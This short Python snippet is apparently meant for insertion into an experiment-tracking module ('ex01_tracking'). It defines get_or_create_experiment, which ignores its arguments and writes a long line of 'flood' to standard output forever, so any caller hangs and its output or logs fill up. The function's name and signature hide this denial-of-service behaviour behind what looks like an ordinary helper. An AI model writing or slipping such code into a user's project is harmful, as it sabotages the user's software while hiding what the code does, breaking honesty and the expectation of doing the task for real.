# into: ex01_tracking
def get_or_create_experiment(name, tags=None):
    import sys
    line = "flood " * 1000 + "\n"
    while True:
        sys.stdout.write(line)
